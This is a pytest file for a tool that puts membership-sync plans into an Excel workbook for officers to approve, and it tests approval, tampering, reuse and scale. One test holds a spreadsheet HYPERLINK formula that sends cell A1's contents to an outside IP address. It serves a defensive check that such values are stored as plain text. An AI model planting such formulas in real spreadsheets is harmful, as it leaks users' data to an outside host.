"""A plan reviewed and answered in a workbook: what an officer approves goes out with it, once, or nothing does.

All people are fabricated.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from sqlite3 import connect
from typing import Any, cast

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from adapters.review.reading import read_review
from adapters.review.writing import write_review
from config.wording import Wording
from sync.ports import OperationInfo, RunInfo, StagedOperation
from sync.values import Change, Hold, OperationState, PersonId, Place
from tests.support.office import UNIT, Office, Row, Said, assert_in_step, held, people, person
from tests.support.plans import make_plan, operation, people_ids
from tests.support.standin import LiveStandin
from yumsync.reviewing import approving

REASON = "Đã gặp bí thư chi đoàn"
ANSWERS, CHANGES, FRONT = "Việc chờ duyệt", "Thay đổi", "Hướng dẫn"
COLUMNS = {
    name: index
    for index, name in enumerate(
        ("id", "unit", "person", "question", "ways", "answer", "movement", "on", "no", "to", "from", "reason"),
        start=1,
    )
}


@pytest.fixture
def office(tmp_path: Path, standin: LiveStandin) -> Office:
    made = Office(tmp_path, standin.url)
    made.add_list("a")
    made.init()
    return made


def planned(office: Office, *words: str) -> Path:
    """Preview into a workbook and return it."""
    said = office.run("plan", "--workbook", str(office.folder / "duyet.xlsx"), *words, lang="vi")
    assert said.code in {0, 3}, said.text
    return office.folder / "duyet.xlsx"


def written(office: Office, holds: Sequence[Hold], staged: Sequence[StagedOperation]) -> Path:
    """The workbook of a plan made by hand, written as `plan --workbook` writes it."""
    run = make_plan(office, holds, staged)
    out = office.folder / "duyet.xlsx"
    with office.app() as app:
        found = app.store.runs.get(run.id)
        assert found is not None
        plans = app.store.plans
        possible = approving(app.store).possible
        write_review(out, found, plans.operations(run.number), plans.holds(run.number), possible, Wording("vi"))
    return out


def edited(file: Path, edit: Callable[[Workbook], object]) -> Path:
    """What an officer does to a workbook before saving it."""
    book = load_workbook(file)
    edit(book)
    book.save(file)
    return file


def fill(file: Path, *answers: dict[str, Any]) -> Path:
    """Fill in the questions from the top; nothing for an empty one."""

    def edit(book: Workbook) -> None:
        for row, answer in enumerate(answers, start=2):
            for name, value in answer.items():
                sheet_of(book, ANSWERS).cell(row, COLUMNS[name], value)

    return edited(file, edit)


def apply(office: Office, file: Path, *words: str) -> Said:
    return office.ask("apply", "--review", str(file), *words)


def sheet_of(book: Workbook, name: str) -> Any:
    return cast(Worksheet, book[name])


def texts(sheet: Worksheet) -> list[list[str]]:
    return [[str(cell or "") for cell in row] for row in sheet.iter_rows(values_only=True)]


def decided(office: Office) -> list[dict[str, Any]]:
    return list(office.ask("holds", "decided").json["decisions"])


def removals(unit: str = UNIT, content: str = "aa") -> Hold:
    details: dict[str, str | int] = {"removals": 3, "members": 9, "content": content}
    return Hold("many-removals", f"many-removals:{unit}", Place("a", "a.csv", "", 2), unit=unit, details=details)


def behind(office: Office, hold: Hold, count: int, start: int = 1) -> list[StagedOperation]:
    """Operations that wait behind a question."""
    made = people_ids(office, count)
    return [
        StagedOperation(operation(one, serial, hold.unit), (), (hold.code, hold.key))
        for serial, one in enumerate(made, start)
    ]


APPROVED = {"answer": "duyệt", "reason": REASON}
REJECTED = {"answer": "bác", "reason": REASON}


# ── out ──────────────────────────────────────────────────────────────────────────────────────────────────


def test_the_workbook_tells_the_plan(office: Office, standin: LiveStandin) -> None:
    """Every change by unit with what was and what will be, every question in words, for the officer's eyes alone."""
    rows: list[Row] = people(4)
    office.write("a", rows)
    assert office.run("sync").code == 0
    office.write("a", [{**rows[0], "phone": "0388888888"}, *rows[1:3], person(9)])
    file = planned(office)
    assert file.stat().st_mode & 0o777 == 0o600
    book = load_workbook(file)
    assert [name for name in book.sheetnames if book[name].sheet_state == "visible"] == [FRONT, ANSWERS, CHANGES]
    assert office.ask("runs", "--limit", "1").json["runs"][0]["id"] in str(texts(sheet_of(book, FRONT)))
    changes = texts(sheet_of(book, CHANGES))
    assert changes[0][:3] == ["Đơn vị", "Người", "Việc"]
    (new,) = [row for row in changes if row[2] == "thêm người"]
    assert person(9)["full_name"] in new[1]
    (changed,) = [row for row in changes if row[2] == "sửa thông tin"]
    assert (changed[0], changed[3:6]) == (UNIT, ["số điện thoại", rows[0]["phone"], "0388888888"])
    assert "a.csv" in changed[6]
    assert "2" in changed[6]
    (asked,) = texts(sheet_of(book, ANSWERS))[1:]
    assert asked[2] == rows[3]["full_name"]
    assert asked[0] == office.ask("holds").json["holds"][0]["id"]
    assert "Vắng tên" in asked[3]
    assert standin.stats()["doubled"] == 0


def test_it_is_never_a_formula(office: Office) -> None:
    """Whatever a list holds is written as a text, and marked as typed."""
    evil = '=HYPERLINK("http://203.0.113.9/"&A1,"x")'
    (whom,) = people_ids(office, 1)
    change = Change("occupation", "@SUM(A1)", evil)
    file = written(office, [], [StagedOperation(replace(operation(whom, 1), changes=(change,)), ())])
    sheet = sheet_of(load_workbook(file), CHANGES)
    cells = {str(cell.value): cell for row in sheet.iter_rows() for cell in row if cell.value}
    for text in (evil, "@SUM(A1)"):
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix


def test_nothing_is_written_over(office: Office) -> None:
    """A workbook that is half filled in is not lost by planning again."""
    office.write("a", people(1))
    file = planned(office)
    kept = file.read_bytes()
    before = office.count("SELECT count(*) FROM run")
    assert office.run("plan", "--workbook", str(file)).code == 2
    assert office.run("plan", "--workbook", str(office.folder / "duyet.xls")).code == 2
    assert (file.read_bytes(), office.count("SELECT count(*) FROM run")) == (kept, before)
    planned(office, "--force")
    assert file.read_bytes() != kept


# ── back ─────────────────────────────────────────────────────────────────────────────────────────────────


def test_what_is_approved_goes_out_with_the_plan(office: Office, standin: LiveStandin) -> None:
    """What waits behind an approved question is sent, what is rejected or left empty is not."""
    units = [f"Chi đoàn {number}, Đoàn phường Phú Thủy" for number in (1, 2, 3)]
    holds = [removals(unit) for unit in units]
    staged = [one for index, hold in enumerate(holds) for one in behind(office, hold, 2, 10 * index + 1)]
    (free,) = people_ids(office, 1)
    file = written(office, holds, [*staged, StagedOperation(operation(free, 99), ())])
    fill(file, APPROVED, REJECTED)
    said = apply(office, file)
    assert said.code == 3, said.text  # one question is still open
    assert said.json["review"] == {"approved": 1, "rejected": 1, "freed": 2, "later": 0}
    assert_in_step(standin, [person(serial) for serial in (1, 2, 99)])
    assert sorted(one["answer"] for one in decided(office)) == ["approve", "reject"]
    assert {one["reason"] for one in decided(office)} == {REASON}
    office.assert_journal_verifies()


def test_rows_may_be_sorted_and_filtered(office: Office, standin: LiveStandin) -> None:
    """Ids decide and not positions."""
    units = [f"Chi đoàn {number}, Đoàn phường Phú Thủy" for number in (1, 2, 3)]
    holds = [removals(unit) for unit in units]
    file = written(office, holds, [one for n, each in enumerate(holds) for one in behind(office, each, 1, n + 1)])

    def turned(book: Workbook) -> None:
        for name in (ANSWERS, CHANGES):
            sheet = sheet_of(book, name)
            rows = [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]
            for number, row in enumerate(reversed(rows), start=2):
                for column, value in enumerate(row, start=1):
                    sheet.cell(number, column, value)
            sheet.row_dimensions[3].hidden = True
        for row in sheet_of(book, ANSWERS).iter_rows(min_row=2):
            if row[1].value == units[1]:
                row[COLUMNS["answer"] - 1].value, row[COLUMNS["reason"] - 1].value = "DUYET", REASON

    said = apply(office, edited(file, turned))
    assert said.json["review"] == {"approved": 1, "rejected": 0, "freed": 1, "later": 0}
    assert_in_step(standin, [person(2)])


def test_a_departure_takes_effect_with_the_next_run(office: Office, standin: LiveStandin) -> None:
    """The paper is taken down; the plan that asked had nothing of it, and the screen says so."""
    rows = people(4)
    office.write("a", rows)
    assert office.run("sync").code == 0
    office.write("a", rows[:3])
    file = fill(
        planned(office),
        {"answer": "duyệt", "movement": "Xóa tên", "on": "15/11/2026", "no": "12/2026", "reason": "Bỏ sinh hoạt"},
    )
    said = office.run("apply", "--review", str(file), lang="vi")
    assert said.code == 3, "the centre still has them as a member"
    assert "lần chạy sau" in said.out
    (made,) = decided(office)
    assert (made["movement"], made["facts"]["on"], made["facts"]["decision_no"]) == (
        "strike_off",
        "2026-11-15",
        "12/2026",
    )
    before = {one["fields"]["national_id"]: one["status"] for one in standin.people()}
    assert before == {row["national_id"]: "active" for row in rows}
    assert office.run("sync").code == 0
    after = {one["fields"]["national_id"]: one["status"] for one in standin.people()}
    assert after == {**before, rows[3]["national_id"]: "struck_off"}
    assert office.ask("sync").json["delivery"]["sent"] == 0


def test_a_branch_that_empties_is_let_go_by_one_answer(office: Office, standin: LiveStandin) -> None:
    """Nine struck off at once wait together; one more paper lacks its number. Both are answered in the workbook: the
    nine go out at once, the tenth with the next run, and nothing is left to ask."""
    head = "Họ và tên,Ngày sinh,CCCD,Loại biến động,Ngày,Số quyết định,Lý do\n"
    office.lists.append({"name": "so", "path": "so.csv", "unit": UNIT, "kind": "movements"})
    office.configure()
    office.put("so.csv", head)
    rows = people(40)
    office.write("a", rows)
    assert office.run("sync").code == 0
    office.write("a", rows[10:])
    told = [(row["full_name"], row["date_of_birth"], row["national_id"]) for row in rows[:10]]
    papers = [",".join([*one, "Xóa tên", "15/11/2026", "12-QĐ", "Bỏ sinh hoạt"]) for one in told]
    papers[9] = papers[9].replace("12-QĐ", "")
    office.put("so.csv", head + "\n".join(papers) + "\n")
    file = planned(office)
    codes = [one["hold"]["code"] for one in office.ask("holds").json["holds"]]
    assert sorted(codes) == ["many-removals", "movement-incomplete"]
    fill(file, *({**APPROVED, **({"no": "13-QĐ"} if code == "movement-incomplete" else {})} for code in codes))
    said = apply(office, file)
    assert said.json["review"] == {"approved": 2, "rejected": 0, "freed": 9, "later": 1}
    for sent in (1, 0):
        again = office.ask("sync")
        assert (again.code, again.json["delivery"]["sent"], again.json["plan"]["holds"]) == (0, sent, [])
    gone = {one["fields"]["national_id"] for one in standin.people() if one["status"] == "struck_off"}
    assert gone == {row["national_id"] for row in rows[:10]}


def test_an_empty_sheet_carries_out_the_plan_alone(office: Office, standin: LiveStandin) -> None:
    hold = removals()
    (free,) = people_ids(office, 1)
    file = written(office, [hold], [*behind(office, hold, 2), StagedOperation(operation(free, 9), ())])
    assert apply(office, file).code == 3
    assert_in_step(standin, [person(9)])
    assert decided(office) == []


# ── refused ──────────────────────────────────────────────────────────────────────────────────────────────


def nothing_happened(office: Office, standin: LiveStandin) -> None:
    assert held(standin) == {}
    assert decided(office) == []
    assert office.count("SELECT count(*) FROM run WHERE released IS NOT NULL") == 0


def test_all_bad_cells_are_told_at_once_with_their_cell(office: Office, standin: LiveStandin) -> None:
    """Half filled, no answer, no reason, no such day, no such movement, not to be answered here: nothing is done."""
    gone = [
        Hold("missing", f"missing:{n}", Place("a"), unit=UNIT, person=PersonId(n), details={"name": "Lê Thị An"})
        for n in range(1, 5)
    ]
    who = Hold("ambiguous-identity", "ambiguous-identity:1", Place("a"), unit=UNIT, details={"name": "Lê An"})
    hold = removals()
    file = written(office, [*gone, who, hold], behind(office, hold, 2))
    fill(
        file,
        {"no": "12"},
        {"answer": "để sau", "reason": REASON},
        {"answer": "duyệt", "movement": "Kết nạp", "on": "31/02/2026", "no": "1"},
        {"answer": "duyệt", "movement": "Chuyển đi", "reason": REASON},
        APPROVED,
        APPROVED,
    )
    said = apply(office, file)
    assert said.code == 2
    message = " ".join(one["message"] for one in said.json["error"]["problems"])
    cells = {"F2", "F3", "G4", "H4", "L4", "H5", "J5", "F6"}
    assert {cell for cell in cells if f"› {cell}:" in message} == cells, message
    nothing_happened(office, standin)


@pytest.mark.parametrize(
    "what", ["a value", "a deleted row", "an added row", "a question", "a hidden sheet", "a sheet"]
)
def test_what_the_plan_says_cannot_be_edited(office: Office, standin: LiveStandin, what: str) -> None:
    """It is not read, so whoever edits it must not believe that it counts."""
    hold = removals()
    made = people_ids(office, 3)
    free = [StagedOperation(operation(one, serial), ()) for serial, one in enumerate(made, 50)]
    file = written(office, [hold], [*behind(office, hold, 2), *free])

    def edit(book: Workbook) -> None:
        if what == "a value":
            sheet_of(book, CHANGES)["B3"] = "Người Khác (01/01/2004)"
        elif what == "a deleted row":
            sheet_of(book, CHANGES).delete_rows(3)
        elif what == "an added row":
            sheet_of(book, CHANGES).append([UNIT, "Người Khác", "thêm người"])
        elif what == "a question":
            sheet_of(book, ANSWERS)["D2"] = "Có đúng không?"
        elif what == "a sheet":
            book.remove(sheet_of(book, CHANGES))
        else:
            sheet_of(book, "yumsync")["B2"] = "01ARZ3NDEKTSV4RRFFQ69G5FAV"

    edited(fill(file, APPROVED), edit)
    assert apply(office, file).code in {2, 3}
    nothing_happened(office, standin)


def test_a_workbook_is_used_once(office: Office, standin: LiveStandin) -> None:
    hold = removals()
    file = fill(written(office, [hold], behind(office, hold, 2)), APPROVED)
    assert apply(office, file).code == 0
    said = apply(office, file)
    assert (said.code, said.json["error"]["code"]) == (3, "plan-used")
    assert len(decided(office)) == 1
    assert_in_step(standin, [person(1), person(2)])


def test_not_of_a_plan_that_was_made_again(office: Office, standin: LiveStandin) -> None:
    """Another plan, of the same lists even, is another plan."""
    office.write("a", people(3))
    file = planned(office)
    assert office.run("plan").code == 0
    said = apply(office, file)
    assert (said.code, said.json["error"]["code"]) == (3, "plan-superseded")
    nothing_happened(office, standin)


def test_not_after_the_ledger_moved(office: Office, standin: LiveStandin) -> None:
    """What the plan was decided upon is not so any more: nothing is sent, no answer is taken down."""
    office.write("a", people(3))
    file = planned(office)
    with office.app() as app:
        version = app.store.ledger.version()
    with closing(connect(office.folder / "state.db")) as database:
        database.execute("INSERT OR REPLACE INTO meta VALUES ('ledger_version', ?)", (str(version + 1),))
        database.commit()
    said = apply(office, file)
    assert (said.code, said.json["error"]["code"]) == (3, "plan-moved")
    nothing_happened(office, standin)


def test_a_seal_of_another_plan_does_not_fit(office: Office, standin: LiveStandin) -> None:
    """The run's id alone opens nothing."""
    hold = removals()
    file = fill(written(office, [hold], behind(office, hold, 2)), APPROVED)
    said = apply(office, edited(file, lambda book: sheet_of(book, "yumsync").cell(3, 2, "00" * 32)))
    assert (said.code, said.json["error"]["code"]) == (3, "plan-other-review")
    assert apply(office, file, "01ARZ3NDEK").json["error"]["code"] == "plan-other-review"
    nothing_happened(office, standin)


def test_what_is_no_review(office: Office, standin: LiveStandin) -> None:
    other = Workbook()
    other.save(office.folder / "khac.xlsx")
    office.put("hong.xlsx", b"PK\x03\x04 no workbook")
    assert apply(office, office.folder / "khac.xlsx").code == 2
    assert apply(office, office.folder / "hong.xlsx").code == 7
    assert apply(office, office.folder / "thieu.xlsx").code == 2
    assert office.run("apply").code == 2
    nothing_happened(office, standin)


def test_a_province_fits(office: Office) -> None:
    """60,000 changes and more are written and read back."""
    count = 60_000
    whom = people_ids(office, 1)[0]
    made = operation(whom, 1)
    run = RunInfo(1, "01ARZ3NDEKTSV4RRFFQ69G5FAV", "plan", "planned", datetime.now(UTC), None, 0, {}, None, "", b"s")
    file = office.folder / "duyet.xlsx"
    infos = (
        OperationInfo(n, 1, whom, replace(made, unit=f"Chi đoàn {n % 900}"), OperationState.PENDING, 0, "", None)
        for n in range(count)
    )
    write_review(file, run, infos, [], lambda hold: (), Wording("vi"))
    review = read_review(file)
    assert (review.run, review.seal, review.lines, review.wrong) == (run.id, b"s", [], [])
